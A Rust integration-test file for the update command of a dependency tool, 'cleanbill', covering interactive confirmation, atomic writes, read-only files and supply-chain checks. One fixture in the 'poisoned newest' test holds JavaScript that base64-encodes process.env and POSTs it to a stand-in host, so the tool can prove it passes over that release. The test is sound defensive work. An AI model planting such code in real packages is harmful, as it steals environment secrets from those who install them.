//! `cleanbill update --apply` when something is in the way: clear words, and the project as it was, byte for byte.
#![cfg(unix)]
#![expect(
    clippy::expect_used,
    reason = "helpers of tests fail as loudly as the tests themselves"
)]
mod common;

use std::{
    io::Write as _,
    path::{Path, PathBuf},
    process::Stdio,
    time::{Duration, Instant},
};

use cleanbill_testkit::Registry;
use common::{
    Answer, Machine,
    update::{NOW, OLD, entry, executable, npm, package, project, update, vulnerable},
};
use serde_json::{Value, json};

/// Longest wait for a client of ours to say that it has begun.
const PATIENCE: Duration = Duration::from_secs(60);

fn two(machine: &Machine) -> (Registry, PathBuf) {
    let registry = Registry::with([
        package("left", &[("1.0.0", OLD, json!({})), ("1.1.0", OLD, json!({}))]).build(),
        package("right", &[("1.0.0", OLD, json!({})), ("1.0.1", OLD, json!({}))]).build(),
    ]);
    let folder = project(
        machine,
        &[("left", "^1.0.0"), ("right", "1.0.0")],
        &[("left", "1.0.0", json!({})), ("right", "1.0.0", json!({}))],
    );
    (registry, folder)
}

fn read(folder: &Path, name: &str) -> String {
    std::fs::read_to_string(folder.join(name)).expect("a file")
}

fn both(folder: &Path) -> (String, String) {
    (read(folder, "package.json"), read(folder, "package-lock.json"))
}

fn answering(machine: &Machine, registry: &Registry, folder: &Path, answers: &str) -> Answer {
    let arguments = [
        "update",
        "--registry",
        registry.url(),
        "--as-of",
        NOW,
        "--apply",
        "--interactive",
        "--format",
        "json",
    ];
    let mut child = machine
        .command(folder, &arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("cleanbill starts");
    let mut input = child.stdin.take().expect("its input");
    input.write_all(answers.as_bytes()).expect("answers");
    drop(input);
    Answer(child.wait_with_output().expect("it ends"))
}

#[test]
fn only_what_was_answered_with_yes_is_carried_out() {
    if !npm() {
        return;
    }
    let machine = Machine::new();
    let (registry, folder) = two(&machine);
    let before = both(&folder);
    for answers in ["q\n", "", "n\nn\n", "d\n", "what\n"] {
        let answer = answering(&machine, &registry, &folder, answers);
        assert_eq!(answer.code(), 0, "{answers:?}: {}", answer.stderr());
        assert!(
            answer.stderr().contains("nothing was changed"),
            "{answers:?}: {}",
            answer.stderr()
        );
        assert_eq!(both(&folder), before, "{answers:?}");
    }
    let answer = answering(&machine, &registry, &folder, "w\nn\n?\ny\n");
    assert_eq!(answer.code(), 0, "{}{}", answer.stdout(), answer.stderr());
    let asked = answer.stderr();
    assert!(
        asked.contains("(1/2) left 1.0.0 to 1.1.0") && asked.contains("why: the newest version in reach"),
        "{asked}"
    );
    assert_eq!(answer.json()["applied"][0]["added"], json!(["right@1.0.1"]));
    let (manifest, lock) = both(&folder);
    assert!(
        manifest.contains("\"right\": \"1.0.1\"") && !lock.contains("left-1.1.0"),
        "{lock}"
    );
}

#[test]
fn a_version_that_is_lost_between_plan_and_apply_changes_nothing() {
    if !npm() {
        return;
    }
    let machine = Machine::new();
    let (registry, folder) = two(&machine);
    let before = both(&folder);
    let real = String::from_utf8(
        std::process::Command::new("sh")
            .args(["-c", "command -v npm"])
            .output()
            .expect("sh")
            .stdout,
    )
    .expect("a path");
    // The client waits until the registry has lost the version, and only then does its work.
    let (begun, go) = (machine.home().join("begun"), machine.home().join("go"));
    let fake = machine.write(
        "bin/npm",
        &format!(
            "#!/bin/sh\necho > {begun}\nn=0\nwhile [ ! -e {go} ] && [ $n -lt 600 ]; do sleep 0.1; n=$((n+1)); done\nexec {real} \"$@\"\n",
            begun = begun.display(),
            go = go.display(),
            real = real.trim()
        ),
    );
    executable(&fake);
    let path = format!(
        "{}:{}",
        fake.parent().expect("a folder").display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let arguments = ["update", "--registry", registry.url(), "--as-of", NOW, "--apply"];
    let child = machine
        .command(&folder, &arguments)
        .env("PATH", path)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("cleanbill starts");
    let started = Instant::now();
    while !begun.exists() && started.elapsed() < PATIENCE {
        std::thread::sleep(Duration::from_millis(20));
    }
    registry.publish(package("left", &[("1.0.0", OLD, json!({}))]).build());
    registry.publish(package("right", &[("1.0.0", OLD, json!({}))]).build());
    std::fs::write(&go, "").expect("a file");
    let answer = Answer(child.wait_with_output().expect("it ends"));
    assert_eq!(answer.code(), 2, "{}{}", answer.stdout(), answer.stderr());
    assert!(
        answer.stderr().contains("nothing was changed"),
        "{}",
        answer.stderr()
    );
    assert!(
        answer.stderr().contains("right") || answer.stderr().contains("left"),
        "it says what was not to be had: {}",
        answer.stderr()
    );
    assert_eq!(both(&folder), before);
}

#[test]
fn read_only_files_are_told_before_any_work() {
    use std::os::unix::fs::PermissionsExt as _;
    for name in ["package-lock.json", "package.json"] {
        let machine = Machine::new();
        let (registry, folder) = two(&machine);
        let before = both(&folder);
        std::fs::set_permissions(folder.join(name), std::fs::Permissions::from_mode(0o444))
            .expect("permissions");
        // This client would do everything right; it is not what refuses.
        let fake = machine.write(
            "bin/npm",
            "#!/bin/sh\nsed -i -e 's/1\\.0\\.0/1.1.0/' package-lock.json\n",
        );
        executable(&fake);
        let answer = update(&machine, &registry, &["right", "--apply"]);
        assert_eq!(answer.code(), 2, "{name}: {}{}", answer.stdout(), answer.stderr());
        assert!(
            answer.stderr().contains(name) && answer.stderr().contains("read-only"),
            "{name}: {}",
            answer.stderr()
        );
        assert_eq!(both(&folder), before, "{name}");
        assert_eq!(
            std::fs::read_dir(&folder).expect("the project").count(),
            2,
            "{name}"
        );
    }
}

#[test]
fn peers_that_conflict_already_are_the_clients_to_tell_and_nothing_changes() {
    if !npm() {
        return;
    }
    let machine = Machine::new();
    let peer = json!({"peerDependencies": {"core": "^2.0.0"}});
    let registry = Registry::with([
        package("core", &[("1.0.0", OLD, json!({}))]).build(),
        package(
            "ui",
            &[("1.0.0", OLD, peer.clone()), ("1.1.0", OLD, peer.clone())],
        )
        .build(),
    ]);
    // Made by hand: no client would have installed this.
    let folder = project(
        &machine,
        &[("core", "^1.0.0"), ("ui", "1.0.0")],
        &[("core", "1.0.0", json!({})), ("ui", "1.0.0", peer)],
    );
    let before = both(&folder);
    let answer = update(&machine, &registry, &["--apply"]);
    assert_eq!(answer.code(), 2, "{}", answer.stdout());
    assert!(
        answer.stderr().contains("nothing was changed") && answer.stderr().contains("core"),
        "{}",
        answer.stderr()
    );
    assert_eq!(both(&folder), before);
}

#[test]
fn a_client_that_is_not_there_is_named() {
    let machine = Machine::new();
    let (registry, folder) = two(&machine);
    let before = both(&folder);
    let arguments = ["update", "--registry", registry.url(), "--as-of", NOW, "--apply"];
    let answer = Answer(
        machine
            .command(&folder, &arguments)
            .env("PATH", machine.home())
            .output()
            .expect("cleanbill starts"),
    );
    assert_eq!(answer.code(), 2);
    assert!(
        answer.stderr().contains("cannot run `npm`") && answer.stderr().contains("PATH"),
        "{}",
        answer.stderr()
    );
    assert_eq!(both(&folder), before);
}

#[test]
fn the_whole_run_killed_at_any_moment_leaves_both_files_of_one_kind() {
    let machine = Machine::new();
    let (registry, folder) = two(&machine);
    let before = both(&folder);
    // A client that does its work at once: both as the plan chose them.
    let mut lock: Value = serde_json::from_str(&before.1).expect("JSON");
    lock["packages"][""]["dependencies"]["right"] = json!("1.0.1");
    for (name, version) in [("left", "1.1.0"), ("right", "1.0.1")] {
        let entry = &mut lock["packages"][format!("node_modules/{name}")];
        entry["version"] = json!(version);
        // Without an address the registry's own is meant.
        entry.as_object_mut().expect("an entry").remove("resolved");
    }
    let prepared = machine.write("prepared.json", &format!("{lock:#}\n"));
    let fake = machine.write(
        "bin/npm",
        &format!("#!/bin/sh\ncp {} package-lock.json\n", prepared.display()),
    );
    executable(&fake);
    let path = format!("{}:/usr/bin:/bin", fake.parent().expect("a folder").display());
    let arguments = ["update", "--registry", registry.url(), "--as-of", NOW, "--apply"];
    let run = || {
        let mut command = machine.command(&folder, &arguments);
        command
            .env("PATH", &path)
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        command
    };
    let started = Instant::now();
    let first = run().stderr(Stdio::piped()).output().expect("cleanbill starts");
    assert!(
        first.status.success(),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    let whole = started.elapsed();
    let after = both(&folder);
    assert_ne!(after, before);
    let reset = || {
        std::fs::write(folder.join("package.json"), &before.0).expect("a file");
        std::fs::write(folder.join("package-lock.json"), &before.1).expect("a file");
    };
    for step in 1..12_u32 {
        reset();
        let mut child = run().spawn().expect("cleanbill starts");
        std::thread::sleep(whole * step / 10);
        let _ = child.kill();
        child.wait().expect("it ends");
        let plan = update(&machine, &registry, &[]);
        assert_eq!(plan.code(), 0, "{}", plan.stderr());
        let now = both(&folder);
        assert!(now == before || now == after, "step {step}: {now:#?}");
        assert!(!folder.join(".cleanbill-update").exists());
    }
}

#[test]
fn with_code_a_poisoned_newest_is_passed_over_and_the_plan_stops_one_short_and_says_why() {
    let machine = Machine::new();
    let clean = "module.exports = (text, width) => text.padStart(width);\n";
    let poisoned = "module.exports = (text, width) => text.padStart(width);\nconst https = require('https');\nconst data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nconst request = https.request({host: 'collect.cdn-stats.example', method: 'POST', path: '/u'});\nrequest.write(data);\nrequest.end();\n";
    let release = |version: &str, code: &str| {
        [
            (
                "package.json".to_owned(),
                json!({"name": "left", "version": version, "main": "index.js"}).to_string(),
            ),
            ("index.js".to_owned(), code.to_owned()),
        ]
    };
    let mut builder = cleanbill_testkit::PackageBuilder::new("left");
    for (version, moment, code) in [
        ("1.0.0", OLD, clean),
        ("1.1.0", "2026-05-01T00:00:00Z", clean),
        ("1.1.1", "2026-06-10T00:00:00Z", poisoned),
    ] {
        let files = release(version, code);
        let files: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        builder = builder.release(version, &files).published(version, moment);
    }
    let registry = Registry::with([builder.tag("latest", "1.1.1").build()]);
    project(&machine, &[("left", "^1.0.0")], &[("left", "1.0.0", json!({}))]);
    // Old enough for any cooldown, and nothing in its metadata gives it away.
    let shallow = entry(&update(&machine, &registry, &["--format", "json"]).json(), "left");
    assert_eq!(shallow["to"]["version"], "1.1.1", "{shallow:#}");
    let answer = update(&machine, &registry, &["--deep", "--format", "json"]);
    let deep = entry(&answer.json(), "left");
    assert_eq!(deep["to"]["version"], "1.1.0", "{deep:#}");
    assert_eq!(deep["passed_over"][0]["version"], "1.1.1", "{deep:#}");
    let told = deep["passed_over"][0]["reasons"].to_string();
    assert!(
        told.contains("it is held") || told.contains("it is blocked"),
        "{deep:#}"
    );
    let human = update(&machine, &registry, &["--deep"]).stdout();
    assert!(
        human.contains("left 1.0.0 to 1.1.0") && human.contains("not: 1.1.1"),
        "{human}"
    );
}

#[test]
fn what_a_candidate_brings_in_is_judged_to_the_bottom_of_its_tree() {
    let machine = Machine::new();
    let needs = |name: &str| json!({"dependencies": {name: "^1.0.0"}});
    let registry = Registry::with([
        package(
            "left",
            &[
                ("1.0.0", OLD, json!({})),
                ("1.1.0", OLD, json!({})),
                ("1.2.0", OLD, needs("first")),
            ],
        )
        .build(),
        package("first", &[("1.0.0", OLD, needs("second"))]).build(),
        package("second", &[("1.0.0", OLD, needs("third"))]).build(),
        package("third", &[("1.0.0", "2026-06-19T23:00:00Z", json!({}))]).build(),
    ]);
    project(&machine, &[("left", "^1.0.0")], &[("left", "1.0.0", json!({}))]);
    let left = entry(&update(&machine, &registry, &["--format", "json"]).json(), "left");
    assert_eq!(left["to"]["version"], "1.1.0", "{left:#}");
    let told = left["passed_over"][0]["reasons"].to_string();
    assert!(
        told.contains("third@1.0.0") && told.contains("by way of second@1.0.0"),
        "{told}"
    );
    // The same tree once its youngest part has aged is brought in, and named in full.
    registry.publish(package("third", &[("1.0.0", OLD, json!({}))]).build());
    let machine = Machine::new();
    project(&machine, &[("left", "^1.0.0")], &[("left", "1.0.0", json!({}))]);
    let left = entry(&update(&machine, &registry, &["--format", "json"]).json(), "left");
    assert_eq!(
        (&left["to"]["version"], &left["to"]["brings"]),
        (
            &json!("1.2.0"),
            &json!([
                "pkg:npm/first@1.0.0",
                "pkg:npm/second@1.0.0",
                "pkg:npm/third@1.0.0"
            ])
        ),
        "{left:#}"
    );
}

#[test]
fn a_parent_that_moves_anyway_spares_the_override() {
    let machine = Machine::new();
    let needs = |range: &str| json!({"dependencies": {"deep": range}});
    let registry = Registry::with([
        package(
            "outer",
            &[("1.0.0", OLD, needs("1.0.0")), ("1.1.0", OLD, needs("1.0.1"))],
        )
        .build(),
        package("deep", &[("1.0.0", OLD, json!({})), ("1.0.1", OLD, json!({}))]).build(),
    ]);
    let installed = [("deep", "1.0.0", json!({})), ("outer", "1.0.0", needs("1.0.0"))];
    project(&machine, &[("outer", "^1.0.0")], &installed);
    vulnerable(&machine, "GHSA-test-0012", "deep", "1.0.1");
    let report = update(&machine, &registry, &["--format", "json"]).json();
    let deep: Value = entry(&report, "deep");
    assert_eq!(deep["to"]["how"]["kind"], "lockfile", "{deep:#}");
    let alone = update(&machine, &registry, &["deep", "--format", "json"]).json();
    assert_eq!(entry(&alone, "deep")["to"]["how"]["kind"], "override");
    // Nor is a parent overridden that asks for something newer yet than the smallest fix.
    let machine = Machine::new();
    let registry = Registry::with([
        package(
            "outer",
            &[("1.0.0", OLD, needs("1.0.0")), ("1.1.0", OLD, needs("1.0.2"))],
        )
        .build(),
        package(
            "deep",
            &[
                ("1.0.0", OLD, json!({})),
                ("1.0.1", OLD, json!({})),
                ("1.0.2", OLD, json!({})),
            ],
        )
        .build(),
    ]);
    project(
        &machine,
        &[("outer", "^1.0.0")],
        &[("deep", "1.0.0", json!({})), ("outer", "1.0.0", needs("1.0.0"))],
    );
    vulnerable(&machine, "GHSA-test-0013", "deep", "1.0.1");
    let answer = update(&machine, &registry, &["--apply", "--format", "json"]);
    if npm() {
        let report = answer.json();
        assert_eq!(
            report["applied"][0]["added"],
            json!(["deep@1.0.2", "outer@1.1.0"]),
            "{report:#}"
        );
    }
}
